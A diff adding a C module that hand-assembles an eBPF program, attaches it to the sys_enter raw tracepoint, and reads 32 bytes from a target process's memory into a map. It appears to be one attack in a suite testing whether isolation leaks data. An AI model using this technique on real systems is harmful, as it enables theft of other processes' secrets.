@@ -1,0 +1,97 @@
+// SPDX-License-Identifier: Apache-2.0
+// Read its memory by a BPF program that runs in its own system calls.
+#include <linux/bpf.h>
+#include <string.h>
+#include <sys/resource.h>
+#include <sys/syscall.h>
+#include <unistd.h>
+
+#include "row.h"
+
+#define INSN(op, dst, src, offset, immediate)                                                      \
+    ((struct bpf_insn){.code = (op),                                                               \
+                       .dst_reg = (dst),                                                           \
+                       .src_reg = (src),                                                           \
+                       .off = (offset),                                                            \
+                       .imm = (int)(immediate)})
+#define CALL(function) INSN(BPF_JMP | BPF_CALL, 0, 0, 0, function)
+#define SET(dst, value) INSN(BPF_ALU64 | BPF_MOV | BPF_K, dst, 0, 0, value)
+#define COPY(dst, src) INSN(BPF_ALU64 | BPF_MOV | BPF_X, dst, src, 0, 0)
+#define ADD(dst, value) INSN(BPF_ALU64 | BPF_ADD | BPF_K, dst, 0, 0, value)
+#define STORE(offset, value) INSN(BPF_ST | BPF_MEM | BPF_DW, BPF_REG_10, 0, offset, value)
+#define END INSN(BPF_JMP | BPF_EXIT, 0, 0, 0, 0)
+
+static long bpf(int command, union bpf_attr *attr)
+{
+    return syscall(SYS_bpf, command, attr, sizeof(*attr));
+}
+
+static long make_map(void)
+{
+    union bpf_attr attr = {
+        .map_type = BPF_MAP_TYPE_ARRAY, .key_size = 4, .value_size = 32, .max_entries = 1};
+    return bpf(BPF_MAP_CREATE, &attr);
+}
+
+// At each system call of the victim: 32 bytes from its address into the map.
+static long load(const struct row_victim *victim, long map)
+{
+    struct bpf_insn program[] = {
+        CALL(BPF_FUNC_get_current_pid_tgid),
+        INSN(BPF_ALU64 | BPF_RSH | BPF_K, BPF_REG_0, 0, 0, 32),
+        INSN(BPF_JMP | BPF_JNE | BPF_K, BPF_REG_0, 0, 20, victim->pid),
+        STORE(-8, 0),
+        STORE(-16, 0),
+        STORE(-24, 0),
+        STORE(-32, 0),
+        COPY(BPF_REG_1, BPF_REG_10),
+        ADD(BPF_REG_1, -32),
+        SET(BPF_REG_2, 32),
+        INSN(BPF_LD | BPF_DW | BPF_IMM, BPF_REG_3, 0, 0, (unsigned)victim->address),
+        INSN(0, 0, 0, 0, victim->address >> 32),
+        CALL(BPF_FUNC_probe_read_user),
+        INSN(BPF_ST | BPF_MEM | BPF_W, BPF_REG_10, 0, -36, 0),
+        COPY(BPF_REG_2, BPF_REG_10),
+        ADD(BPF_REG_2, -36),
+        INSN(BPF_LD | BPF_DW | BPF_IMM, BPF_REG_1, BPF_PSEUDO_MAP_FD, 0, map),
+        INSN(0, 0, 0, 0, 0),
+        COPY(BPF_REG_3, BPF_REG_10),
+        ADD(BPF_REG_3, -32),
+        SET(BPF_REG_4, BPF_ANY),
+        CALL(BPF_FUNC_map_update_elem),
+        INSN(BPF_JMP | BPF_JA, 0, 0, 0, 0),
+        SET(BPF_REG_0, 0),
+        END,
+    };
+    union bpf_attr attr = {.prog_type = BPF_PROG_TYPE_RAW_TRACEPOINT,
+                           .insns = (unsigned long)program,
+                           .insn_cnt = sizeof(program) / sizeof(program[0]),
+                           .license = (unsigned long)"GPL"};
+    return bpf(BPF_PROG_LOAD, &attr);
+}
+
+enum row_result row_attack(const struct row_victim *victim)
+{
+    char text[32] = "";
+    int key = 0;
+    // Before 5.11 maps and programs count as locked memory.
+    const struct rlimit all = {RLIM_INFINITY, RLIM_INFINITY};
+    (void)setrlimit(RLIMIT_MEMLOCK, &all);
+    long map = make_map();
+    long program = map >= 0 ? load(victim, map) : -1;
+    if (program < 0) {
+        return row_from_errno("bpf");
+    }
+    union bpf_attr attach = {
+        .raw_tracepoint = {.name = (unsigned long)"sys_enter", .prog_fd = (unsigned)program}};
+    union bpf_attr lookup = {
+        .map_fd = (unsigned)map, .key = (unsigned long)&key, .value = (unsigned long)text};
+    if (bpf(BPF_RAW_TRACEPOINT_OPEN, &attach) < 0) {
+        return row_from_errno("BPF_RAW_TRACEPOINT_OPEN");
+    }
+    for (int i = 0; i < 100 && !row_is_text(text, sizeof(text)); i++) {
+        usleep(20000);
+        (void)bpf(BPF_MAP_LOOKUP_ELEM, &lookup);
+    }
+    return row_is_text(text, sizeof(text)) ? ROW_LEAKED : ROW_REFUSED;
+}
